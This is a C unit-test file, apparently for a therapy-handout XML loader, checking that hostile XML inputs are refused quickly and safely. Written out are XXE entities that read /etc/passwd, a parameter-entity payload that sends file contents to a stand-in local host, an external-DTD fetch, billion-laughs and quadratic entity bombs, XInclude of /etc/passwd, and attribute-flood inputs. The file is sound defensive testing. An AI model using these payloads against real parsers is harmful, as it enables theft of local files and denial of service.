/*
 * Hostile inputs: each is refused with a clear message, quickly (< 2 s) and
 * without a memory spike (< 100 MB of peak RSS growth; 400 MB under
 * AddressSanitizer), and nothing of a local file leaks into diagnostics.
 * The inputs are generated here, at run time, into the build's test folder:
 * no binary or dangerous file is kept in the repository.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "load.h"

/* Bounded time: a hostile file is refused in well under this (plain builds
 * take a tenth of it); AddressSanitizer makes everything several times
 * slower, and the machine may be busy. */
#ifdef __SANITIZE_ADDRESS__
#define MAX_SECONDS 8.0
#else
#define MAX_SECONDS 2.0
#endif
/* A 1 MB record of 50,000 elements takes some 26 MB to parse and validate;
 * under AddressSanitizer (redzones, quarantine) about eight times that. */
#ifdef __SANITIZE_ADDRESS__
#define MAX_RSS_KB (400L * 1024L)
#else
#define MAX_RSS_KB (100L * 1024L)
#endif

static hd_loader *loader;
static char dir[1024];

static int setup(void **state)
{
	hd_diags d = HD_DIAGS_INIT;
	int rc = hd_loader_new(&loader, HD_SOURCE_DIR "/xml/schema", &d);

	hd_diags_print(&d, stderr);
	hd_diags_free(&d);
	mkdir(HD_TEST_TMP, 0777);
	snprintf(dir, sizeof(dir), "%s/hostile", HD_TEST_TMP);
	mkdir(dir, 0777);
	return rc ? -1 : 0;
}

static int teardown(void **state)
{
	hd_loader_free(loader);
	return 0;
}

static const char session_head[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	"<session xmlns=\"urn:handout:session:1\" version=\"1\">\n";
static const char session_rest[] =
	"  <date>2026-11-20</date>\n"
	"  <therapist>Maria</therapist>\n"
	"  <techniques><technique ref=\"swedish\"/></techniques>\n"
	"  <areas><area>neck</area></areas>\n"
	"</session>\n";

/* Writes len bytes to dir/name; returns the path in a static buffer. */
static const char *write_input(const char *name, const void *data, size_t len)
{
	static char path[1200];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "wb");
	assert_non_null(f);
	assert_int_equal(fwrite(data, 1, len, f), len);
	fclose(f);
	return path;
}

static const char *write_text(const char *name, const char *text)
{
	return write_input(name, text, strlen(text));
}

/* A session whose client name is the given XML fragment, after a prolog. */
static const char *write_session(const char *name, const char *prolog, const char *client_name)
{
	hd_buf b = HD_BUF_INIT;
	const char *path;

	hd_buf_puts(&b, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
	hd_buf_puts(&b, prolog);
	hd_buf_puts(&b, "<session xmlns=\"urn:handout:session:1\" version=\"1\">\n  <client><name>");
	hd_buf_puts(&b, client_name);
	hd_buf_puts(&b, "</name></client>\n");
	hd_buf_puts(&b, session_rest);
	assert_false(b.oom);
	path = write_input(name, b.data, b.len);
	hd_buf_free(&b);
	return path;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static long maxrss_kb(void)
{
	struct rusage ru;
	getrusage(RUSAGE_SELF, &ru);
	return ru.ru_maxrss;
}

typedef int (*load_fn)(const char *path, hd_diags *d);

/* Loads path as a session record (the cap of a session applies). */
static int load_session(const char *path, hd_diags *d)
{
	hd_session_rec *s = (hd_session_rec *)1;
	int rc = hd_load_session(&s, loader, path, NULL, d);
	assert_true(rc ? s == NULL : s != NULL);
	hd_session_rec_free(s);
	return rc;
}

/* Checks path as any handout file, as 'handout validate' does (the file
 * cap of the largest vocabulary applies until its root is known). */
static int check_any(const char *path, hd_diags *d)
{
	enum hd_vocab v;
	return hd_load_check(loader, path, NULL, &v, d);
}

/* Loads path with fn; asserts that it is refused with a message
 * containing want, quickly and in bounded memory, and that no line of
 * /etc/passwd shows up anywhere. Returns the status. */
static int expect_refused_by(load_fn fn, const char *path, const char *want)
{
	hd_diags d = HD_DIAGS_INIT;
	hd_buf all = HD_BUF_INIT;
	char line[1600];
	long rss0 = maxrss_kb();
	double t0 = now(), dt;
	size_t i;
	int rc;

	rc = fn(path, &d);
	dt = now() - t0;
	assert_true(rc == HD_EINPUT || rc == HD_EIO);
	assert_true(d.nerrors >= 1);
	for (i = 0; i < d.count; i++) {
		hd_diag_format(line, sizeof(line), &d.items[i]);
		hd_buf_printf(&all, "%s\n", line);
	}
	if (!strstr(all.data, want))
		fprintf(stderr, "%s: wanted \"%s\", got:\n%s", path, want, all.data);
	assert_non_null(strstr(all.data, want));
	assert_null(strstr(all.data, "root:"));
	assert_null(strstr(all.data, "/bin/"));
	if (dt >= MAX_SECONDS)
		fprintf(stderr, "%s: took %.2f s\n", path, dt);
	assert_true(dt < MAX_SECONDS);
	assert_true(maxrss_kb() - rss0 < MAX_RSS_KB);
	hd_buf_free(&all);
	hd_diags_free(&d);
	return rc;
}

/* expect_refused_by for a session record. */
static int expect_refused(const char *path, const char *want)
{
	return expect_refused_by(load_session, path, want);
}

static void test_xxe(void **state)
{
	const char *path = write_session("xxe.xml",
		"<!DOCTYPE session [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n", "&xxe;");
	expect_refused(path, ":2:1: error: DOCTYPE is not allowed in handout files");
}

static void test_parameter_entity(void **state)
{
	const char *path = write_session("param-entity.xml",
		"<!DOCTYPE session [\n"
		"  <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
		"  <!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
		"  %eval;\n  %leak;\n]>\n", "Sam");
	expect_refused(path, "DOCTYPE is not allowed in handout files");
}

static void test_external_dtd(void **state)
{
	const char *path = write_session("external-dtd.xml",
		"<!DOCTYPE session SYSTEM \"http://127.0.0.1:9/evil.dtd\">\n", "Sam");
	expect_refused(path, ":2:1: error: DOCTYPE is not allowed in handout files");
}

static void test_billion_laughs(void **state)
{
	hd_buf b = HD_BUF_INIT;
	int i, j;

	hd_buf_puts(&b, "<!DOCTYPE session [\n  <!ENTITY lol0 \"lol\">\n");
	for (i = 1; i <= 9; i++) {
		hd_buf_printf(&b, "  <!ENTITY lol%d \"", i);
		for (j = 0; j < 10; j++)
			hd_buf_printf(&b, "&lol%d;", i - 1);
		hd_buf_puts(&b, "\">\n");
	}
	hd_buf_puts(&b, "]>\n");
	expect_refused(write_session("billion-laughs.xml", b.data, "&lol9;"),
	               "DOCTYPE is not allowed in handout files");
	hd_buf_free(&b);
}

static void test_quadratic_blowup(void **state)
{
	hd_buf b = HD_BUF_INIT, refs = HD_BUF_INIT;
	size_t i;

	hd_buf_puts(&b, "<!DOCTYPE session [\n  <!ENTITY a \"");
	for (i = 0; i < 50 * 1024; i++)
		hd_buf_putc(&b, 'a');
	hd_buf_puts(&b, "\">\n]>\n");
	for (i = 0; i < 50000; i++)
		hd_buf_puts(&refs, "&a;");
	assert_true(b.len + refs.len > 190 * 1024);
	expect_refused(write_session("quadratic.xml", b.data, refs.data),
	               "DOCTYPE is not allowed in handout files");
	hd_buf_free(&b);
	hd_buf_free(&refs);
}

static uint32_t crc32_of(const unsigned char *p, size_t n)
{
	uint32_t c = 0xFFFFFFFFu;
	size_t i;
	int k;

	for (i = 0; i < n; i++) {
		c ^= p[i];
		for (k = 0; k < 8; k++)
			c = (c >> 1) ^ (0xEDB88320u & (0u - (c & 1u)));
	}
	return ~c;
}

/* A real gzip file (one stored deflate block) holding a valid session: it
 * must be refused, not transparently decompressed. */
static void test_gzip(void **state)
{
	hd_buf xml = HD_BUF_INIT, gz = HD_BUF_INIT;
	unsigned char hdr[10] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3 };
	unsigned char blk[5], tail[8];
	uint32_t crc;
	size_t n;
	int i;

	hd_buf_puts(&xml, session_head);
	hd_buf_puts(&xml, "  <client><name>Sam</name></client>\n");
	hd_buf_puts(&xml, session_rest);
	n = xml.len;
	crc = crc32_of((const unsigned char *)xml.data, n);
	blk[0] = 1; /* final block, stored */
	blk[1] = (unsigned char)(n & 0xff);
	blk[2] = (unsigned char)(n >> 8);
	blk[3] = (unsigned char)~blk[1];
	blk[4] = (unsigned char)~blk[2];
	for (i = 0; i < 4; i++) {
		tail[i] = (unsigned char)(crc >> (8 * i));
		tail[4 + i] = (unsigned char)(n >> (8 * i));
	}
	hd_buf_append(&gz, hdr, sizeof(hdr));
	hd_buf_append(&gz, blk, sizeof(blk));
	hd_buf_append(&gz, xml.data, n);
	hd_buf_append(&gz, tail, sizeof(tail));
	expect_refused(write_input("session.xml.gz.xml", gz.data, gz.len),
	               "error: this is not an XML file (it looks like gzip-compressed data)\n"
	               "  hint: decompress it first (gunzip), then give the .xml file");
	hd_buf_free(&xml);
	hd_buf_free(&gz);
}

static void test_deep_nesting(void **state)
{
	hd_buf b = HD_BUF_INIT;
	int i;

	hd_buf_puts(&b, session_head);
	hd_buf_puts(&b, "<client><name>Sam</name></client><date>2026-11-20</date><notes>");
	for (i = 0; i < 100000; i++)
		hd_buf_puts(&b, "<p>");
	for (i = 0; i < 100000; i++)
		hd_buf_puts(&b, "</p>");
	hd_buf_puts(&b, "</notes></session>\n");
	assert_false(b.oom);
	expect_refused(write_input("deep.xml", b.data, b.len),
	               "error: elements are nested too deeply (more than 256 levels)");
	hd_buf_free(&b);
}

static void test_invalid_utf8(void **state)
{
	expect_refused(write_session("bad-utf8.xml", "", "Zo\xc3\x28 Lee"),
	               ":3:19: error: the file is not valid UTF-8 text (0xC3 0x28 0x20 0x4C)\n"
	               "  hint: save the file with the UTF-8 encoding");
}

static void test_nul_byte(void **state)
{
	static const char text[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	                           "<session xmlns=\"urn:handout:session:1\" version=\"1\">\n"
	                           "  <client><name>Sam\0Lee</name></client>\n</session>\n";
	expect_refused(write_input("nul.xml", text, sizeof(text) - 1),
	               ":3:20: error: the file contains a NUL (zero) byte, which XML does not allow");
}

static void test_empty(void **state)
{
	expect_refused(write_text("empty.xml", ""), "empty.xml: error: the file is empty\n");
	expect_refused(write_text("blank.xml", " \n\t\n"),
	               "error: the file is empty (it holds only white space)");
}

/* A folder is a file that cannot be read (exit status 3), not bad input. */
static void test_directory(void **state)
{
	char path[1200];
	snprintf(path, sizeof(path), "%s/folder.xml", dir);
	mkdir(path, 0777);
	assert_int_equal(expect_refused(path, "folder.xml: error: this is a folder, not a file"),
	                 HD_EIO);
}

/* A FIFO nobody writes to would block open() and read() forever; it is
 * refused at once, and so is a symbolic link to one. */
static void test_fifo(void **state)
{
	char path[1200], link[1200];

	snprintf(path, sizeof(path), "%s/fifo.xml", dir);
	snprintf(link, sizeof(link), "%s/link-to-fifo.xml", dir);
	unlink(path);
	unlink(link);
	assert_int_equal(mkfifo(path, 0666), 0);
	assert_int_equal(symlink("fifo.xml", link), 0);
	assert_int_equal(expect_refused(path, "fifo.xml: error: not a regular file (a FIFO)\n"
	                                      "  hint: give the path of an ordinary file"),
	                 HD_EINPUT);
	assert_int_equal(expect_refused(link, "link-to-fifo.xml: error: not a regular file (a FIFO)"),
	                 HD_EINPUT);
}

/* Devices: /dev/zero never ends, /dev/tty waits for a keyboard; a socket
 * cannot even be opened. */
static void test_devices(void **state)
{
	struct sockaddr_un addr;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	assert_true(fd >= 0);
	memset(&addr, 0, sizeof(addr));
	addr.sun_family = AF_UNIX;
	assert_true((size_t)snprintf(addr.sun_path, sizeof(addr.sun_path), "%s/socket.xml", dir) <
	            sizeof(addr.sun_path));
	unlink(addr.sun_path);
	assert_int_equal(bind(fd, (struct sockaddr *)&addr, sizeof(addr)), 0);
	assert_int_equal(expect_refused(addr.sun_path, "socket.xml: error: not a regular file (a socket)"),
	                 HD_EINPUT);
	close(fd);
	unlink(addr.sun_path);
	assert_int_equal(expect_refused("/dev/zero",
	                                "/dev/zero: error: not a regular file (a character device)"),
	                 HD_EINPUT);
	assert_int_equal(expect_refused("/dev/null",
	                                "/dev/null: error: not a regular file (a character device)"),
	                 HD_EINPUT);
	if (access("/dev/tty", F_OK) == 0)
		assert_int_equal(expect_refused("/dev/tty",
		                                "/dev/tty: error: not a regular file (a character device)"),
		                 HD_EINPUT);
}

static void test_png(void **state)
{
	static const unsigned char png[] = {
		0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
		0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89,
	};
	expect_refused(write_input("logo.xml", png, sizeof(png)),
	               "logo.xml: error: this is not an XML file (it looks like a PNG image)\n"
	               "  hint: give the path of a handout .xml file");
}

static void test_too_large(void **state)
{
	hd_buf b = HD_BUF_INIT;
	size_t i;

	hd_buf_puts(&b, session_head);
	hd_buf_puts(&b, "<client><name>Sam</name></client>\n<!--");
	for (i = 0; b.len < HD_MAX_RECORD_FILE + 1000; i++)
		hd_buf_puts(&b, "padding padding padding padding padding padding padding\n");
	hd_buf_puts(&b, "-->\n</session>\n");
	expect_refused(write_input("huge.xml", b.data, b.len), "error: file is too large (");
	hd_buf_free(&b);
}

/* Writes a file: root (a start tag), prefix, an element <name> with n
 * attributes, suffix, then root's end tag end. Returns the path. */
static const char *write_attrs(const char *file, const char *root, const char *end,
                               const char *prefix, const char *name, long n, const char *suffix)
{
	hd_buf b = HD_BUF_INIT;
	const char *path;
	long i;

	hd_buf_puts(&b, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
	hd_buf_puts(&b, root);
	hd_buf_puts(&b, "\n");
	hd_buf_puts(&b, prefix);
	hd_buf_printf(&b, "<%s", name);
	for (i = 0; i < n; i++)
		hd_buf_printf(&b, " a%lx=\"\"", i);
	hd_buf_puts(&b, "/>");
	hd_buf_puts(&b, suffix);
	hd_buf_printf(&b, "\n%s\n", end);
	assert_false(b.oom);
	path = write_input(file, b.data, b.len);
	hd_buf_free(&b);
	return path;
}

#define SESSION_ROOT "<session xmlns=\"urn:handout:session:1\" version=\"1\">"
#define SESSION_BEFORE_PRINT \
	"<client><name>Sam</name></client><date>2026-11-20</date><therapist>Al</therapist>"
#define SESSION_AFTER_PRINT \
	"<techniques><technique ref=\"swedish\"/></techniques><areas><area>neck</area></areas>"
#define LIBRARY_ROOT "<library xmlns=\"urn:handout:library:1\" version=\"1\" languages=\"en\">"

/* libxml2 checks each attribute against every earlier one of its element:
 * 100,000 on one element took over 10 s. A linear pre-scan refuses an
 * element with more than 64 before libxml2 sees the file. */
static void test_many_attributes(void **state)
{
	const char *path;
	long sizes[] = { 100000, 400000 };
	size_t i;

	path = write_attrs("attrs-100k.xml", SESSION_ROOT, "</session>", "", "print", 100000, "");
	expect_refused(path, "attrs-100k.xml:3:1: error: <print> has 100000 attributes; the limit is 64\n"
	                     "  hint: no element of a handout file has more than a few; is this the right file?");
	/* 400,000 fit in the 4 MB of a library file, checked as validate does. */
	for (i = 0; i < HD_ARRAY_LEN(sizes); i++) {
		char name[64], want[200];
		snprintf(name, sizeof(name), "attrs-lib-%ld.xml", sizes[i]);
		path = write_attrs(name, LIBRARY_ROOT, "</library>", "", "entry", sizes[i], "");
		snprintf(want, sizeof(want), "%s:3:1: error: <entry> has %ld attributes; the limit is 64",
		         name, sizes[i]);
		expect_refused_by(check_any, path, want);
	}
	/* At the limit the pre-scan lets it through; the schema speaks. */
	path = write_attrs("attrs-64.xml", SESSION_ROOT, "</session>", SESSION_BEFORE_PRINT, "print", 64,
	                   SESSION_AFTER_PRINT);
	expect_refused(path, "attrs-64.xml:3: error: <print> does not allow the attribute a0\n");
	path = write_attrs("attrs-65.xml", SESSION_ROOT, "</session>", SESSION_BEFORE_PRINT, "print", 65,
	                   SESSION_AFTER_PRINT);
	expect_refused(path, "attrs-65.xml:3:82: error: <print> has 65 attributes; the limit is 64\n");
}

/* Where libxml2 reports an error and goes on parsing, the pre-scan must
 * not be led astray: each of these hides 100,000 attributes behind
 * something that, to a naive scan, looks like a comment, a processing
 * instruction or a quoted value, but that libxml2 leaves early. */
static void test_many_attributes_hidden(void **state)
{
	static const struct {
		const char *file, *prefix, *suffix, *want;
	} cases[] = {
		/* "<? " is no processing instruction: libxml2 reads on as text */
		{ "hide-pi.xml", "<? ", " ?>", "hide-pi.xml:3:4: error: <print> has 100000" },
		/* a control character ends a comment for libxml2 */
		{ "hide-comment.xml", "<!-- \x01 ", " -->", "hide-comment.xml:3:8: error: <print> has 100000" },
		/* ... and a CDATA section, and a processing instruction */
		{ "hide-cdata.xml", "<p><![CDATA[ \x02 ", " ]]></p>", "hide-cdata.xml:3:16: error: <print> has 100000" },
		{ "hide-pi2.xml", "<?pi \x03 ", " ?>", "hide-pi2.xml:3:8: error: <print> has 100000" },
		/* '<' ends an attribute value and its tag */
		{ "hide-quote.xml", "<p x=\"", "\"/>", "hide-quote.xml:3:7: error: <print> has 100000" },
		/* an end tag that does not end */
		{ "hide-end.xml", "<p></p x=\"", "\">", "hide-end.xml:3:11: error: <print> has 100000" },
	};
	size_t i;

	for (i = 0; i < HD_ARRAY_LEN(cases); i++) {
		const char *path = write_attrs(cases[i].file, SESSION_ROOT, "</session>", cases[i].prefix, "print", 100000,
		                               cases[i].suffix);
		expect_refused(path, cases[i].want);
	}
}

/* An XML declaration that does not end with "?>" ends, for libxml2, at the
 * first '>': what follows is parsed. */
static void test_many_attributes_after_bad_declaration(void **state)
{
	hd_buf b = HD_BUF_INIT;
	long i;

	hd_buf_puts(&b, "<?xml version=\"1.0\" x>" SESSION_ROOT "<print");
	for (i = 0; i < 100000; i++)
		hd_buf_printf(&b, " a%lx=\"\"", i);
	hd_buf_puts(&b, "/></session> ?>\n");
	expect_refused(write_input("hide-decl.xml", b.data, b.len),
	               "hide-decl.xml:1:74: error: <print> has 100000 attributes; the limit is 64");
	hd_buf_free(&b);
}

/* The pre-scan reads bytes, so the bytes must be UTF-8: another encoding,
 * detected or declared, is refused (UTF-7 could hide every '<'). */
static void test_encodings(void **state)
{
	static const char utf16[] = "\xff\xfe<\0?\0x\0m\0l\0 \0";
	expect_refused(write_input("utf16.xml", utf16, sizeof(utf16) - 1),
	               "utf16.xml: error: the file is UTF-16 text, not UTF-8\n"
	               "  hint: save the file with the UTF-8 encoding");
	expect_refused(write_text("latin1.xml", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
	                                        SESSION_ROOT "</session>\n"),
	               "latin1.xml:1:21: error: the file declares the encoding \"ISO-8859-1\"; "
	               "handout files are UTF-8\n"
	               "  hint: save the file with the UTF-8 encoding and write encoding=\"UTF-8\"");
	expect_refused(write_text("utf7.xml", "<?xml version='1.0' encoding='UTF-7'?>\n"
	                                      "+ADw-session xmlns='urn:handout:session:1'/>\n"),
	               "utf7.xml:1:21: error: the file declares the encoding \"UTF-7\"");
}

/* Markup inside comments, CDATA and processing instructions is not
 * markup: a valid file with many '=' there loads. */
static void test_prescan_valid(void **state)
{
	hd_buf b = HD_BUF_INIT;
	hd_diags d = HD_DIAGS_INIT;
	hd_session_rec *s = NULL;
	int i;

	hd_buf_puts(&b, "\xef\xbb\xbf<?xml version='1.0' encoding='utf-8' standalone='yes'?>\n"
	                "<!-- <print");
	for (i = 0; i < 100; i++)
		hd_buf_printf(&b, " a%d=''", i);
	hd_buf_puts(&b, "/> -->\n<?pi <print");
	for (i = 0; i < 100; i++)
		hd_buf_printf(&b, " a%d=''", i);
	hd_buf_puts(&b, "/> ?>\n" SESSION_ROOT "\n  <client><name a='=>'>Sam</name></client>\n");
	hd_buf_puts(&b, "<!-- ======================================================================== -->");
	hd_buf_puts(&b, session_rest);
	b.len -= strlen("</session>\n");
	hd_buf_puts(&b, "<notes><p><![CDATA[<print");
	for (i = 0; i < 100; i++)
		hd_buf_printf(&b, " a%d=''", i);
	hd_buf_puts(&b, "/>]]></p></notes></session>\n");
	assert_false(b.oom);
	assert_int_equal(hd_load_session(&s, loader, write_input("prescan-ok.xml", b.data, b.len), NULL, &d),
	                 HD_EINPUT); /* the schema allows no attribute on <name> */
	assert_int_equal(d.count, 1);
	assert_non_null(strstr(d.items[0].message, "<name> does not allow the attribute a"));
	hd_diags_free(&d);
	hd_buf_free(&b);
}

/* Many references in one record (a 1 MB session holds about 50,000 tips):
 * the check for ids listed twice must not compare every pair. */
static void test_many_refs(void **state)
{
	hd_buf b = HD_BUF_INIT;
	int i;

	hd_buf_puts(&b, session_head);
	hd_buf_puts(&b, "  <client><name>Sam</name></client>\n");
	hd_buf_puts(&b, session_rest);
	b.len -= strlen("</session>\n");
	hd_buf_puts(&b, "<selfcare>\n");
	for (i = 0; i < 50000; i++)
		hd_buf_printf(&b, "<tip ref=\"t%x\"/>\n", i);
	hd_buf_puts(&b, "<tip ref=\"t10\"/>\n</selfcare>\n</session>\n");
	assert_false(b.oom);
	assert_true(b.len < HD_MAX_RECORD_FILE);
	expect_refused(write_input("many-refs.xml", b.data, b.len),
	               "many-refs.xml:50009: error: tip 't10' is listed twice\n"
	               "  hint: it is already listed on line 25\n");
	hd_buf_free(&b);
}

/* 'handout validate' reads any file up to the 4 MB of a library file, but
 * a session record (or clinic profile) is capped at 1 MB: its root element
 * is sniffed from the bytes and the cap applied before any parsing. */
static void test_too_large_for_its_kind(void **state)
{
	static const struct {
		const char *file, *head, *tail, *want;
	} cases[] = {
		{ "big-session.xml", "<session xmlns=\"urn:handout:session:1\" version=\"1\">",
		  "</session>", "big-session.xml: error: file is too large for a session record "
		                "(3000000 bytes; the limit is 1048576 bytes)\n"
		                "  hint: split the file or check that it is the right one\n" },
		{ "big-clinic.xml", "<!-- a clinic --><?pi x?>\n <h:clinic xmlns:h=\"urn:handout:clinic:1\">",
		  "</h:clinic>", "big-clinic.xml: error: file is too large for a clinic profile "
		                 "(3000000 bytes; the limit is 1048576 bytes)" },
	};
	size_t i;

	for (i = 0; i < HD_ARRAY_LEN(cases); i++) {
		hd_buf b = HD_BUF_INIT;
		hd_buf_puts(&b, "\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
		hd_buf_puts(&b, cases[i].head);
		while (b.len + 100 < 3000000)
			hd_buf_puts(&b, "<p>Padding padding padding padding padding.</p>\n");
		while (b.len < 3000000 - strlen(cases[i].tail) - 1)
			hd_buf_putc(&b, ' ');
		hd_buf_puts(&b, cases[i].tail);
		hd_buf_putc(&b, '\n');
		assert_int_equal(b.len, 3000000);
		expect_refused_by(check_any, write_input(cases[i].file, b.data, b.len), cases[i].want);
		hd_buf_free(&b);
	}
}

/* Over-long fields: a 900,000-character name is refused quickly, with
 * its length, not laid out as a title. */
static void test_long_field(void **state)
{
	hd_buf name = HD_BUF_INIT;
	size_t i;

	for (i = 0; i < 450000; i++)
		hd_buf_puts(&name, "\xc3\xa9");
	assert_false(name.oom);
	expect_refused(write_session("long-name.xml", "", name.data),
	               "long-name.xml:3: error: the client's name is 450000 characters long; the limit is 100");
	hd_buf_free(&name);
}

/* A session from standard input ("-") that never ends: refused once it
 * passes the 1 MB cap, without reading on. */
static void test_endless_stdin(void **state)
{
	int fds[2], saved;
	pid_t pid;

	assert_int_equal(pipe(fds), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) { /* the writer: until the reader is gone */
		char buf[4096];
		signal(SIGPIPE, SIG_DFL);
		close(fds[0]);
		memset(buf, 'x', sizeof(buf));
		for (;;) {
			if (write(fds[1], buf, sizeof(buf)) < 0)
				_exit(0);
		}
	}
	close(fds[1]);
	saved = dup(0);
	assert_true(saved >= 0);
	assert_int_equal(dup2(fds[0], 0), 0);
	close(fds[0]);
	assert_int_equal(expect_refused("-", "<stdin>: error: input is too large (more than 1048576 "
	                                     "bytes; the limit is 1048576 bytes)\n"
	                                     "  hint: split the file or check that it is the right one"),
	                 HD_EINPUT);
	assert_int_equal(dup2(saved, 0), 0); /* the pipe's last reader closes: the writer stops */
	close(saved);
	assert_int_equal(waitpid(pid, NULL, 0), pid);
}

/* XInclude is never processed: the element is simply not in the vocabulary. */
static void test_xinclude(void **state)
{
	const char *path = write_text("xinclude.xml",
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
		"<session xmlns=\"urn:handout:session:1\" version=\"1\">\n"
		"  <client><name>Sam</name></client>\n"
		"  <date>2026-11-20</date>\n"
		"  <therapist>Maria</therapist>\n"
		"  <techniques><technique ref=\"swedish\"/></techniques>\n"
		"  <areas><area>neck</area></areas>\n"
		"  <notes><p>x</p><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\"\n"
		"     href=\"/etc/passwd\" parse=\"text\"/></notes>\n"
		"</session>\n");
	expect_refused(path, ":9: error: <xi:include> is not allowed inside <notes>\n"
	                     "  hint: use <p>, <ul> or <ol>");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xxe),
		cmocka_unit_test(test_parameter_entity),
		cmocka_unit_test(test_external_dtd),
		cmocka_unit_test(test_billion_laughs),
		cmocka_unit_test(test_quadratic_blowup),
		cmocka_unit_test(test_gzip),
		cmocka_unit_test(test_deep_nesting),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_nul_byte),
		cmocka_unit_test(test_empty),
		cmocka_unit_test(test_directory),
		cmocka_unit_test(test_fifo),
		cmocka_unit_test(test_devices),
		cmocka_unit_test(test_png),
		cmocka_unit_test(test_too_large),
		cmocka_unit_test(test_xinclude),
		cmocka_unit_test(test_endless_stdin),
		cmocka_unit_test(test_long_field),
		cmocka_unit_test(test_too_large_for_its_kind),
		cmocka_unit_test(test_many_refs),
		cmocka_unit_test(test_many_attributes),
		cmocka_unit_test(test_many_attributes_hidden),
		cmocka_unit_test(test_many_attributes_after_bad_declaration),
		cmocka_unit_test(test_encodings),
		cmocka_unit_test(test_prescan_valid),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
